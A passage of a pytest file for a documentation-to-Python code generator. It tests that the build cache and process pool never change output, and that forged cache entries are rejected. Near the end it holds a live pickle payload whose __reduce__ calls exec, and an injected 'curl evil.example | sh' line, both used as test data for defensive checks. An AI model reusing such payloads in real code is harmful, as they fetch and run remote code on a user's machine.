"""The build cache and the process pool: they may save time, never change output.

Every equality below compares a cached (or parallel) build with a `--no-cache`
`--jobs 1` build of the same docs, never with bytes computed by the cache.
"""

from __future__ import annotations

import concurrent.futures
import os
import shutil
from pathlib import Path

import pytest

from docgen import cache as cache_mod
from docgen import cli, pipeline
from docgen import extract as extract_mod
from docgen.cache import Cache, default_dir, digest
from docgen.model import PageDecls

REPO_ROOT = Path(__file__).resolve().parent.parent
SECRET = b"test-secret-0123456789"
DOCS_SRC = REPO_ROOT / "docs-src"
# Enough real pages to exceed the pool thresholds (16 pages / 16 modules).
CORPUS_PAGES = (
    "entity.md", "baseitem.md", "driveitem.md", "drive.md", "user.md", "group.md",
    "identity.md", "identityset.md", "audio.md", "photo.md", "video.md", "folder.md",
    "file.md", "image.md", "hashes.md", "quota.md", "permission.md", "sharinglink.md",
    "thumbnail.md", "thumbnailset.md", "itemreference.md", "listitem.md", "list.md",
    "site.md", "publicationfacet.md", "remoteitem.md", "searchresult.md", "shared.md",
)  # fmt: skip


def read_tree(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


def build(
    docs: Path,
    out: Path,
    *args: str,
    monkeypatch: pytest.MonkeyPatch,
    cache_dir: Path,
) -> int:
    monkeypatch.setenv("DOCGEN_CACHE_DIR", str(cache_dir))
    return cli.main(["build", str(docs), "-o", str(out), *args])


@pytest.fixture
def corpus_docs(tmp_path: Path, corpus_v1_resources: Path) -> Path:
    """A small copy of real pages (a copy, so a test may edit them)."""
    source = corpus_v1_resources
    docs = tmp_path / "docs"
    docs.mkdir()
    for name in CORPUS_PAGES:
        if (source / name).exists():
            shutil.copy(source / name, docs / name)
    assert len(list(docs.iterdir())) >= 20
    return docs


# --- the cache store ---------------------------------------------------------


def test_put_then_get_round_trips_and_a_missing_key_is_a_miss(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "c", SECRET)
    assert cache.get("k", "ab" * 32) is None
    cache.put("k", "ab" * 32, b"payload")
    assert cache.get("k", "ab" * 32) == b"payload"
    assert cache.get("k", "cd" * 32) is None
    assert cache.get("other", "ab" * 32) is None  # kinds are separate
    assert (cache.hits, cache.misses) == (1, 3)


def test_the_folder_marks_itself_as_an_ignorable_cache(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "c", SECRET)
    cache.put("k", "ab" * 32, b"x")
    assert (tmp_path / "c" / ".gitignore").read_text() == "*\n"
    assert (tmp_path / "c" / "CACHEDIR.TAG").read_text().startswith("Signature: 8a477f597d28d172")


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[: len(data) // 2],  # truncated
        lambda data: data[:-1] + bytes([data[-1] ^ 1]),  # one bit flipped in the payload
        lambda data: b"",  # empty
        lambda data: b"garbage" * 20,  # not an entry at all
        lambda data: b"XXXX" + data[4:],  # wrong magic
    ],
)
def test_a_damaged_entry_is_a_miss_not_a_crash(tmp_path: Path, damage) -> None:  # type: ignore[no-untyped-def]
    cache = Cache(tmp_path / "c", SECRET)
    key = "ef" * 32
    cache.put("k", key, b"some payload bytes")
    entry = next(p for p in (tmp_path / "c" / "k").rglob("*") if p.is_file())
    entry.write_bytes(damage(entry.read_bytes()))
    assert cache.get("k", key) is None
    assert cache.get_text("k", key) is None
    assert cache.get_data("k", key) is None


def test_an_entry_that_is_not_plain_data_is_a_miss(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "c", SECRET)
    cache.put("k", "ab" * 32, b"not marshal data")  # intact entry, bad payload
    assert cache.get_data("k", "ab" * 32) is None
    cache.put_data("k", "cd" * 32, ("a", 1))  # plain data, but not a PageDecls
    assert cache.get_as("k", "cd" * 32, PageDecls) is None
    assert (cache.hits, cache.misses) == (0, 2)


def test_writes_are_atomic_and_leave_no_temporary_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = Cache(tmp_path / "c", SECRET)
    key = "12" * 32
    cache.put("k", key, b"old")

    def fail(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(cache_mod.os, "replace", fail)
    cache.put("k", key, b"new")  # fails after writing the temporary file: no error
    monkeypatch.undo()
    assert cache.get("k", key) == b"old"  # the old entry is untouched, not half-written
    leftovers = [p.name for p in (tmp_path / "c").rglob(".tmp-*")]
    assert leftovers == []


def test_an_unwritable_cache_location_is_ignored(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    cache = Cache(blocker / "cache", SECRET)  # cannot be created: a file is in the way
    cache.put("k", "ab" * 32, b"x")
    assert cache.get("k", "ab" * 32) is None


def test_digest_separates_its_parts() -> None:
    assert digest("ab", "c") != digest("a", "bc")
    assert digest("a") == digest(b"a")


def test_library_versions_are_the_ones_importlib_metadata_reports() -> None:
    from importlib import metadata

    for name in ("black", "jinja2", "Jinja2", "markdown-it-py", "markdown_it_py"):
        assert cache_mod.dist_version(name) == metadata.version(name), name
    assert cache_mod.dist_version("surely-not-installed-xyz") == "?"


def test_a_library_version_comes_from_the_first_dist_info_on_the_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for folder, dist in (("a", "Fancy_Lib-2.0.1.dist-info"), ("b", "fancy_lib-1.0.dist-info")):
        (tmp_path / folder / dist).mkdir(parents=True)
    monkeypatch.setattr(
        cache_mod.sys, "path", [str(tmp_path / "nowhere"), str(tmp_path / "a"), str(tmp_path / "b")]
    )
    cache_mod.dist_version.cache_clear()
    try:
        assert cache_mod.dist_version("fancy-lib") == "2.0.1"
        assert cache_mod.dist_version("fancy.lib") == "2.0.1"
    finally:
        cache_mod.dist_version.cache_clear()


def test_the_environment_chooses_the_location(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCGEN_CACHE_DIR", str(tmp_path / "elsewhere"))
    assert default_dir(tmp_path / "generated") == tmp_path / "elsewhere"


# --- builds: cached == uncached ---------------------------------------------


def test_cached_builds_equal_uncached_builds_through_edits(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}

    def check_same(label: str) -> None:
        assert build(corpus_docs, tmp_path / "cached", **kw) == 0
        shutil.rmtree(tmp_path / "plain", ignore_errors=True)
        assert build(corpus_docs, tmp_path / "plain", "--no-cache", "--jobs", "1", **kw) == 0
        assert read_tree(tmp_path / "cached") == read_tree(tmp_path / "plain"), label

    check_same("cold cache")
    check_same("warm cache")
    page = corpus_docs / "driveitem.md"
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("Audio metadata", "Sound metadata", 1), encoding="utf-8")
    check_same("one page edited")
    assert "Sound metadata" in (tmp_path / "cached/graph_models/drive_item.py").read_text()
    page.write_text(text, encoding="utf-8")
    check_same("edit reverted (old entries reused)")
    (corpus_docs / "audio.md").unlink()
    check_same("page removed")


def test_cache_entries_do_not_leak_across_packages_or_templates(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
    assert build(DOCS_SRC, tmp_path / "b", "--package", "other_models", **kw) == 0
    assert (tmp_path / "b/other_models").is_dir() and not (tmp_path / "b/graph_models").exists()

    templates = tmp_path / "templates"
    templates.mkdir()
    runtime = (REPO_ROOT / "templates/runtime.py.j2").read_text(encoding="utf-8")
    (templates / "runtime.py.j2").write_text(runtime + "\nCUSTOM_MARKER = 1\n", encoding="utf-8")
    assert build(DOCS_SRC, tmp_path / "c", "--templates", str(templates), **kw) == 0
    assert "CUSTOM_MARKER = 1" in (tmp_path / "c/graph_models/_runtime.py").read_text()
    # Editing the user's template is seen even though nothing else changed.
    (templates / "runtime.py.j2").write_text(runtime + "\nOTHER_MARKER = 2\n", encoding="utf-8")
    assert build(DOCS_SRC, tmp_path / "c", "--templates", str(templates), **kw) == 0
    assert "OTHER_MARKER = 2" in (tmp_path / "c/graph_models/_runtime.py").read_text()


def test_a_corrupted_cache_gives_the_same_build(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    assert build(corpus_docs, tmp_path / "plain", "--no-cache", **kw) == 0
    assert build(corpus_docs, tmp_path / "cached", **kw) == 0
    entries = [p for p in cache_dir.rglob("*") if p.is_file() and len(p.name) == 64]
    assert len(entries) > 20
    for i, entry in enumerate(entries):
        data = entry.read_bytes()
        entry.write_bytes(data[: len(data) // 2] if i % 2 else b"\0" * len(data))
    shutil.rmtree(tmp_path / "cached")
    assert build(corpus_docs, tmp_path / "cached", **kw) == 0
    assert read_tree(tmp_path / "cached") == read_tree(tmp_path / "plain")


def test_no_cache_neither_reads_nor_writes_the_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    assert build(DOCS_SRC, tmp_path / "out", "--no-cache", **kw) == 0
    assert not cache_dir.exists()
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    assert cache_dir.exists()
    # With --no-cache a build must not be answered from the cache: break extraction
    # and the build must notice, where a cached build does not need it.
    monkeypatch.setattr(extract_mod, "extract", _boom)
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    assert build(DOCS_SRC, tmp_path / "out", "--no-cache", "--jobs", "1", **kw) == 1


def _boom(*args: object) -> None:
    raise RuntimeError("extract called")


# --- nothing is re-done for unchanged pages ---------------------------------


def test_a_warm_build_extracts_and_formats_nothing(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "out", "--jobs", "1", **kw) == 0
    before = read_tree(tmp_path / "out")
    monkeypatch.setattr(extract_mod, "extract", _boom)
    monkeypatch.setattr("docgen.format.format_one", _boom)
    assert build(corpus_docs, tmp_path / "out", "--jobs", "1", **kw) == 0
    assert read_tree(tmp_path / "out") == before


def test_one_changed_page_is_the_only_page_extracted_again(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "out", "--jobs", "1", **kw) == 0

    extracted: list[str] = []
    formatted: list[str] = []
    real_extract = extract_mod.extract
    from docgen import format as fmt

    real_format = fmt.format_one

    def spy_extract(page):  # type: ignore[no-untyped-def]
        extracted.append(page.source)
        return real_extract(page)

    def spy_format(item: tuple[str, str]) -> tuple[str, str]:
        formatted.append(item[0])
        return real_format(item)

    monkeypatch.setattr(extract_mod, "extract", spy_extract)
    monkeypatch.setattr(fmt, "format_one", spy_format)
    page = corpus_docs / "photo.md"
    page.write_text(
        page.read_text(encoding="utf-8").replace("Camera manufacturer", "Maker", 1),
        encoding="utf-8",
    )
    assert build(corpus_docs, tmp_path / "out", "--jobs", "1", **kw) == 0
    assert extracted == ["photo.md"]
    assert formatted == ["graph_models/photo.py"]
    assert "Maker." in (tmp_path / "out/graph_models/photo.py").read_text()


# --- the process pool --------------------------------------------------------


def test_parallel_build_equals_serial_build(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "serial", "--no-cache", "--jobs", "1", **kw) == 0
    assert build(corpus_docs, tmp_path / "parallel", "--no-cache", "--jobs", "3", **kw) == 0
    assert read_tree(tmp_path / "parallel") == read_tree(tmp_path / "serial")


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the patch reaches workers only by fork")
def test_a_page_that_fails_in_a_worker_is_reported_like_a_serial_failure(
    corpus_docs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    real_extract = extract_mod.extract

    def fail_on_drive(page):  # type: ignore[no-untyped-def]
        if page.source == "drive.md":
            raise KeyError("boom")
        return real_extract(page)

    monkeypatch.setattr(extract_mod, "extract", fail_on_drive)
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "out", "--no-cache", "--jobs", "2", **kw) == 1
    err = capsys.readouterr().err
    page = corpus_docs / "drive.md"  # named as given on the command line
    assert f"internal error while processing {page}: KeyError: 'boom'" in err
    assert "Traceback" not in err
    assert not (tmp_path / "out").exists()


def test_pages_decls_from_the_cache_are_what_extraction_gives(
    corpus_docs: Path, tmp_path: Path
) -> None:
    sources = sorted(corpus_docs.glob("*.md"))
    cache = Cache(tmp_path / "cache", SECRET)
    model_cold = pipeline.load_model([corpus_docs], cache=cache, jobs=1)
    assert cache.hits == 0
    model_warm = pipeline.load_model([corpus_docs], cache=cache, jobs=1)
    assert cache.hits == len(sources)
    plain = pipeline.load_model([corpus_docs])
    assert model_cold == plain == model_warm
    assert all(
        isinstance(pipeline.read_source(s), PageDecls) for s in pipeline.discover([corpus_docs])[:2]
    )


def test_without_a_pool_the_build_runs_in_process(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_pool(*args: object, **kwargs: object) -> None:
        raise OSError("no semaphores here")

    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "serial", "--no-cache", "--jobs", "1", **kw) == 0
    monkeypatch.setattr(concurrent.futures, "ProcessPoolExecutor", no_pool)
    assert build(corpus_docs, tmp_path / "fallback", "--no-cache", "--jobs", "2", **kw) == 0
    assert read_tree(tmp_path / "fallback") == read_tree(tmp_path / "serial")


@pytest.mark.parametrize("value", ["0", "-1", "two"])
def test_jobs_must_be_a_positive_number(
    value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as info:
        cli.main(["build", str(DOCS_SRC), "-o", str(tmp_path / "out"), "--jobs", value])
    assert info.value.code == 2
    assert "--jobs" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_only_the_most_recent_whole_builds_are_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    packages = [f"models_{i}" for i in range(pipeline.KEEP_BUILDS + 3)]
    for i, package in enumerate(packages):
        assert build(DOCS_SRC, tmp_path / "out", "--package", package, **kw) == 0
        if i == 0:
            first = {p.name for p in (cache_dir / "build").glob("*/*")}
    entries = {p.name for p in (cache_dir / "build").glob("*/*")}
    assert len(entries) == pipeline.KEEP_BUILDS
    assert first.isdisjoint(entries)  # the oldest went first


def test_prune_keeps_what_was_used_last(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "c", SECRET)
    keys = [f"{i:02d}" * 32 for i in range(5)]
    for i, key in enumerate(keys):
        cache.put("k", key, b"x")
        os.utime(cache._path("k", key), (1000 + i, 1000 + i))
    cache.touch("k", keys[0])  # used just now
    cache.prune("k", 2)
    assert [k for k in keys if cache.get("k", k) is not None] == [keys[0], keys[4]]


# --- per-module render cache --------------------------------------------------


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new), encoding="utf-8")


def test_cached_modules_follow_edits_to_the_types_they_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Edits on one page that change other pages' modules: the cached build still
    equals a --no-cache build, and the referencing module really changed."""
    docs = tmp_path / "docs"
    shutil.copytree(DOCS_SRC, docs)
    templates = tmp_path / "tpl"
    templates.mkdir()
    (templates / "model.py.j2").write_text(
        '# marker 1\n{% include "builtin/model.py.j2" %}', encoding="utf-8"
    )
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    opts = ("--templates", str(templates))

    def check_same(label: str) -> dict[str, bytes]:
        assert build(docs, tmp_path / "cached", *opts, **kw) == 0, label
        shutil.rmtree(tmp_path / "plain", ignore_errors=True)
        assert build(docs, tmp_path / "plain", *opts, "--no-cache", "--jobs", "1", **kw) == 0
        tree = read_tree(tmp_path / "cached")
        assert tree == read_tree(tmp_path / "plain"), label
        return tree

    def module(tree: dict[str, bytes], name: str) -> str:
        return tree[f"graph_models/{name}.py"].decode("utf-8")

    before = check_same("cold")
    assert "DepotLocation" in module(before, "depot")

    # A referenced type is renamed on its own page; depot.md is unchanged.
    _edit(docs / "depotlocation.md", "depotLocation", "siteLocation")
    tree = check_same("referenced type renamed")
    assert "from .site_location import SiteLocation" in module(tree, "depot")

    # ... and moved to another namespace, so to another module.
    _edit(
        docs / "depotlocation.md",
        "Namespace: microsoft.graph\n",
        "Namespace: microsoft.graph.sites\n",
    )
    _edit(
        docs / "depotlocation.md",
        "microsoft.graph.siteLocation",
        "microsoft.graph.sites.siteLocation",
    )
    tree = check_same("referenced type moved")
    assert "graph_models/sites/site_location.py" in tree
    assert "from .sites.site_location import SiteLocation" in module(tree, "depot")

    # A base type is renamed on its own page; fleet-truck.md is unchanged.
    _edit(docs / "vehicle.md", "vehicle resource type", "car resource type")
    _edit(docs / "vehicle.md", "microsoft.graph.vehicle", "microsoft.graph.car")
    tree = check_same("base renamed")
    assert "class Truck(Car)" in module(tree, "truck")

    # An enum gains a member.
    _edit(docs / "enums.md", "|hydrogen|\n", "|hydrogen|\n|biogas|\n")
    tree = check_same("enum member added")
    assert "BIOGAS" in module(tree, "fuel_type")

    # The template override is edited.
    (templates / "model.py.j2").write_text(
        '# marker 2\n{% include "builtin/model.py.j2" %}', encoding="utf-8"
    )
    tree = check_same("template edited")
    assert module(tree, "depot").startswith("# marker 2\n")


def test_module_keys_change_with_what_the_template_sees_of_named_types() -> None:
    """The type's own page can be unchanged while a type it names moves or is
    renamed in Python (module or class): the module's key must change too."""
    from dataclasses import replace

    from docgen.model import Property, TypeDef
    from docgen.render import ModuleJob

    ref = TypeDef("b", "ns", "complex", "b.md", 1, "", "B", "b")
    prop = Property("b", "b", "ns.b", False, False, None, False, "", 1)
    t = TypeDef("a", "ns", "complex", "a.md", 1, "", "A", "a", properties=(prop,))
    key = pipeline._module_key("base", ModuleJob("pkg/a.py", t, (ref,)))
    assert key == pipeline._module_key("base", ModuleJob("pkg/a.py", t, (ref,)))
    variants = [
        ModuleJob("pkg/a.py", t, (replace(ref, py_module="sub.b"),)),
        ModuleJob("pkg/a.py", t, (replace(ref, py_class="B2"),)),
        ModuleJob("pkg/a.py", t, (), ("ns.b",)),
        ModuleJob("pkg/a.py", replace(t, description="new"), (ref,)),
        ModuleJob("pkg/a.py", replace(t, base="ns.b"), (ref,)),
    ]
    keys = {pipeline._module_key("base", job) for job in variants}
    assert len(keys) == len(variants) and key not in keys
    assert pipeline._module_key("other", ModuleJob("pkg/a.py", t, (ref,))) != key


def test_one_changed_page_renders_only_its_module_again(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from docgen import render as render_mod

    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "out", "--jobs", "1", **kw) == 0
    rendered: list[str] = []
    real = render_mod.Renderer.module

    def spy(self, job):  # type: ignore[no-untyped-def]
        rendered.append(job.path)
        return real(self, job)

    monkeypatch.setattr(render_mod.Renderer, "module", spy)
    _edit(corpus_docs / "photo.md", "Camera manufacturer", "Maker")
    assert build(corpus_docs, tmp_path / "out", "--jobs", "1", **kw) == 0
    assert rendered == ["graph_models/photo.py"]  # drive_item.py names Photo: unchanged
    shutil.rmtree(tmp_path / "plain", ignore_errors=True)
    assert build(corpus_docs, tmp_path / "plain", "--no-cache", "--jobs", "1", **kw) == 0
    assert read_tree(tmp_path / "out") == read_tree(tmp_path / "plain")


# --- rendering in the pool ------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the spy reaches workers only by fork")
def test_modules_rendered_in_workers_equal_a_serial_build(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "serial", "--no-cache", "--jobs", "1", **kw) == 0
    pids = tmp_path / "pids"
    real = pipeline._produce

    def spy(*args):  # type: ignore[no-untyped-def]
        with pids.open("a") as f:  # from the worker processes (forked with the patch)
            f.write(f"{os.getpid()}\n")
        return real(*args)

    monkeypatch.setattr(pipeline, "_produce", spy)
    monkeypatch.setattr(pipeline, "MIN_PARALLEL_MODULES", 1)
    assert build(corpus_docs, tmp_path / "parallel", "--no-cache", "--jobs", "2", **kw) == 0
    assert read_tree(tmp_path / "parallel") == read_tree(tmp_path / "serial")
    assert str(os.getpid()) not in pids.read_text().split()  # all rendered in workers
    # With the cache: workers store entries the next build finds.
    assert build(corpus_docs, tmp_path / "cached", "--jobs", "2", **kw) == 0
    assert read_tree(tmp_path / "cached") == read_tree(tmp_path / "serial")


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the patch reaches workers only by fork")
def test_a_file_black_rejects_in_a_worker_is_named(
    corpus_docs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from docgen import format as fmt

    real = fmt.format_one

    def reject_photo(item: tuple[str, str]) -> tuple[str, str]:
        if item[0].endswith("/photo.py"):
            raise fmt.FormatError(item[0], "Cannot parse: 1:4")
        return real(item)

    monkeypatch.setattr(fmt, "format_one", reject_photo)
    monkeypatch.setattr(pipeline, "MIN_PARALLEL_MODULES", 1)
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "out", "--no-cache", "--jobs", "2", **kw) == 1
    err = capsys.readouterr().err
    assert err == (
        "docgen: error: template model.py.j2 (built-in) renders invalid Python: "
        "graph_models/photo.py: Cannot parse: 1:4\n"
    )
    assert "Traceback" not in err
    assert not (tmp_path / "out").exists()


def _worker_died(*args: object) -> None:
    """Module level, so the pool can pickle it; its error reaches the parent as a
    dead worker's does (future.result() raises it)."""
    from concurrent.futures.process import BrokenProcessPool

    raise BrokenProcessPool("a worker died")


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the pool is forced by a patch")
def test_a_pool_that_breaks_midway_falls_back_to_in_process(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(corpus_docs, tmp_path / "serial", "--no-cache", "--jobs", "1", **kw) == 0
    monkeypatch.setattr(pipeline, "_produce_chunk", _worker_died)
    monkeypatch.setattr(pipeline, "MIN_PARALLEL_MODULES", 1)
    assert build(corpus_docs, tmp_path / "broken", "--no-cache", "--jobs", "2", **kw) == 0
    assert read_tree(tmp_path / "broken") == read_tree(tmp_path / "serial")


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the pool is forced by a patch")
@pytest.mark.parametrize("name", ["model.py.j2", "package_init.py.j2"])  # worker, main process
def test_a_template_error_in_a_worker_names_the_template_and_line(
    name: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    templates = tmp_path / "tpl"
    templates.mkdir()
    (templates / name).write_text("a\n\n{{ 1 // 0 }}\n", encoding="utf-8")
    monkeypatch.setattr(pipeline, "MIN_PARALLEL_MODULES", 1)
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    out = tmp_path / "out"
    assert build(DOCS_SRC, out, "--templates", str(templates), "--jobs", "2", **kw) == 1
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert line == (
        f"docgen: error: template {templates / name}:3: "
        "ZeroDivisionError: integer division or modulo by zero"
    )
    assert not out.exists()


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the pool is forced by a patch")
def test_a_runtime_template_error_while_workers_start_early_is_reported(
    corpus_docs: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`_runtime` is made in a worker while the parent resolves (the pool is up after
    extracting 28 pages); its failure is reported as a serial build reports it."""
    templates = tmp_path / "tpl"
    templates.mkdir()
    (templates / "runtime.py.j2").write_text("x\n{{ missing_name }}\n", encoding="utf-8")
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    out = tmp_path / "out"
    assert build(corpus_docs, out, "--templates", str(templates), "--jobs", "2", **kw) == 1
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert line == (
        f"docgen: error: template {templates / 'runtime.py.j2'}:2: 'missing_name' is undefined"
    )
    assert not out.exists()


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the pool is forced by a patch")
def test_workers_never_render_with_the_templates_of_an_earlier_build(
    corpus_docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two builds in one process: the second one's workers (forked while it
    extracts) must see an override added since the first."""
    monkeypatch.setattr(pipeline, "MIN_PARALLEL_MODULES", 1)
    templates = tmp_path / "tpl"
    templates.mkdir()
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    opts = ("--templates", str(templates), "--no-cache")
    # In-process, so this process's renderer has loaded the built-in model.py.j2.
    assert build(corpus_docs, tmp_path / "first", *opts, "--jobs", "1", **kw) == 0
    (templates / "model.py.j2").write_text(
        '# added later\n{% include "builtin/model.py.j2" %}', encoding="utf-8"
    )
    assert build(corpus_docs, tmp_path / "second", *opts, "--jobs", "2", **kw) == 0
    text = (tmp_path / "second/graph_models/drive_item.py").read_text(encoding="utf-8")
    assert text.startswith("# added later\n")


# --- a cache folder written by someone else -----------------------------------
#
# Whoever can write to the cache folder (another local user, a CI cache restored
# from another branch) must not be able to run code, change the output or hang
# the build. Each test forges entries, builds again with the cache and compares
# with a `--no-cache` build made first.


def _entries(cache_dir: Path) -> list[Path]:
    """Every entry file (named by its 64-hex-digit key)."""
    return sorted(p for p in cache_dir.rglob("*") if p.is_file() and len(p.name) == 64)


def _reference(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "unused-cache"}
    assert build(DOCS_SRC, tmp_path / "plain", "--no-cache", "--jobs", "1", **kw) == 0
    return read_tree(tmp_path / "plain")


class _RunsCode:
    """Unpickling this writes `marker`: proof that a payload would run code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))


def test_pickle_payloads_with_recomputed_digests_run_no_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib
    import hmac
    import pickle

    expected = _reference(tmp_path, monkeypatch)
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    marker = tmp_path / "marker"
    payload = pickle.dumps(_RunsCode(marker))
    pickle.loads(payload)  # the payload is live: loading it runs code ...
    assert marker.read_text() == "ran"
    marker.unlink()  # ... so a marker after the build would mean the cache ran it

    entries = _entries(cache_dir)
    assert {p.relative_to(cache_dir).parts[0] for p in entries} >= {"page", "build", "module"}
    for i, entry in enumerate(entries):
        kind, key = entry.relative_to(cache_dir).parts[0], entry.name
        # The old format (a digest anyone can recompute), and the new one with a MAC
        # under a key the forger holds (they cannot read the user's).
        forged_mac = hmac.new(
            b"the forger's own key",
            b"DGC2" + f"{len(kind)}:{kind}64:{key}".encode() + payload,
            hashlib.sha256,
        ).digest()
        old = b"DGC1" + hashlib.sha256(payload).digest() + payload
        entry.write_bytes(old if i % 2 else b"DGC2" + forged_mac + payload)
    shutil.rmtree(tmp_path / "out")
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    assert not marker.exists()
    assert read_tree(tmp_path / "out") == expected
    # And the same with the other format on every entry.
    for entry in _entries(cache_dir):
        entry.write_bytes(b"DGC1" + hashlib.sha256(payload).digest() + payload)
    assert build(DOCS_SRC, tmp_path / "out2", **kw) == 0
    assert not marker.exists()
    assert read_tree(tmp_path / "out2") == expected


def test_forged_text_entries_inject_nothing_and_check_sees_the_injection(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack the old cache allowed: forge every module's text, then `check` said
    "up to date" for a tree holding the injected code, since both came from the cache."""
    import hashlib

    expected = _reference(tmp_path, monkeypatch)
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    out = tmp_path / "out"
    assert build(DOCS_SRC, out, **kw) == 0
    evil = b"import os\nos.system('curl evil.example | sh')\n"
    for entry in _entries(cache_dir):
        entry.write_bytes(b"DGC1" + hashlib.sha256(evil).digest() + evil)
    module = out / "graph_models" / "depot.py"
    module.write_bytes(evil)  # what a served forged entry would have written
    capsys.readouterr()
    assert cli.main(["check", str(DOCS_SRC), "-o", str(out)]) == 1
    assert "changed:" in capsys.readouterr().out
    assert build(DOCS_SRC, out, **kw) == 0
    assert read_tree(out) == expected
    assert cli.main(["check", str(DOCS_SRC), "-o", str(out)]) == 0


def test_swapped_valid_entries_change_nothing(
